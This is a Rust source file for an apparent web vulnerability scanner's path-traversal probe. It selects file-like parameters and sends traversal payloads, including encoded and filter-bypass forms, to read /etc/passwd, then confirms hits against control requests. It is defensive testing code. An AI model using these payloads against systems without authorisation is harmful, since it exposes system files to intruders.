//! Path traversal: whether a name of a file leads out of the folder it belongs to.
//!
//! The proof is the content of a file that every Unix has, which neither the ordinary name nor a missing file shows.

use async_trait::async_trait;

use crate::context::Context;
use crate::docket::{Docket, Trail};
use crate::finding::{Label, Site};
use crate::plan::{Plan, count};
use crate::probe::Probe;
use crate::probe::point::{Point, all_points, plain};
use crate::row::Row;
use crate::rule;
use crate::scope::SendError;

/// The probe.
#[derive(Debug)]
pub(crate) struct Traversal;

#[async_trait]
impl Probe for Traversal {
    fn id(&self) -> &'static str {
        "path-traversal"
    }

    fn row(&self) -> Row {
        Row::Injection
    }

    fn estimate(&self, plan: &Plan) -> u32 {
        count(plan.surface.endpoints.len() * 2)
    }

    async fn run(&self, context: &Context<'_>, docket: &mut Docket) -> Result<(), SendError> {
        let points = all_points(context);
        for point in points.iter().filter(|point| point.is_text(context.surface()) && is_candidate(point)) {
            climb(context, docket, point).await?;
        }
        Ok(())
    }
}

fn is_candidate(point: &Point<'_>) -> bool {
    let path = plain(&point.endpoint.template);
    let is_served = point.endpoint.is_read() && PLACES.iter().any(|word| path.contains(word));
    let seed = point.seed_text();
    let looks_like_a_file = seed.rsplit_once('.').is_some_and(|(name, ending)| {
        !name.is_empty() && !name.contains('@') && (2..=4).contains(&ending.len()) && !seed.contains("://")
    });
    let is_id = point.plain_name() == "id" || point.plain_name().ends_with("id");
    point.spot.is_plain() && (point.is_named(&NAMES) || is_served && !is_id || looks_like_a_file)
}

async fn climb(context: &Context<'_>, docket: &mut Docket, point: &Point<'_>) -> Result<(), SendError> {
    let insertion = point.insertion();
    let site = Site { operation: &point.endpoint.id, insertion: &insertion };
    for form in FORMS {
        let mut trail = Trail::default();
        let write = |file: &str| form.replace("FILE", file);
        let answer = context.send(&mut trail, Label::Attack, &point.text(context, &write("etc/passwd"))).await?;
        if !is_passwd(&answer.text) {
            let reason = format!("a path out of the folder is answered with {}", answer.meaning().as_u16());
            docket.withstand(&rule::FILE_READ, site, reason, trail);
            continue;
        }
        let missing = point.text(context, &write(&format!("etc/{}", context.marker())));
        let missing = context.send(&mut trail, Label::Control, &missing).await?;
        let ordinary = context.send(&mut trail, Label::Control, &point.text(context, &point.seed_text())).await?;
        if !is_passwd(&missing.text) && !is_passwd(&ordinary.text) {
            let summary = format!("`{}` leads out of its folder: the answer is `/etc/passwd`", point.name);
            docket.prove(&rule::FILE_READ, site, summary, trail);
            return Ok(());
        }
    }
    Ok(())
}

/// A line for the user with number 0: seven fields, the third and fourth zero (passwd(5)).
pub(crate) fn is_passwd(text: &str) -> bool {
    text.split(['\n', '"', '>']).flat_map(|line| line.split("\\n")).any(|line| {
        let fields: Vec<&str> = line.trim().split(':').collect();
        fields.len() >= 7
            && fields.first() == Some(&"root")
            && fields.get(2) == Some(&"0")
            && fields.get(3) == Some(&"0")
    })
}

const FORMS: [&str; 5] = [
    "../../../../../../../../../../FILE",
    "/FILE",
    "....//....//....//....//....//....//....//....//FILE",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fFILE",
    "file:///FILE",
];
const NAMES: [&str; 17] = [
    "attachment",
    "dir",
    "doc",
    "download",
    "file",
    "folder",
    "include",
    "lang",
    "locale",
    "log",
    "page",
    "path",
    "photo",
    "report",
    "resource",
    "template",
    "theme",
];
const PLACES: [&str; 13] = [
    "asset",
    "attachment",
    "document",
    "download",
    "export",
    "file",
    "image",
    "invoice",
    "log",
    "media",
    "report",
    "static",
    "template",
];

#[cfg(test)]
mod tests {
    use super::is_passwd;

    #[test]
    fn the_file_of_users_is_known_by_its_fields() {
        assert!(is_passwd("root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/:/bin/false"));
        assert!(is_passwd(r#"{"content":"root:x:0:0:root:/root:/bin/sh\nbin:x"}"#));
        assert!(!is_passwd("the file /etc/passwd begins with root:x:0:0"));
        assert!(!is_passwd("toor:x:0:0:root:/root:/bin/sh"));
    }
}
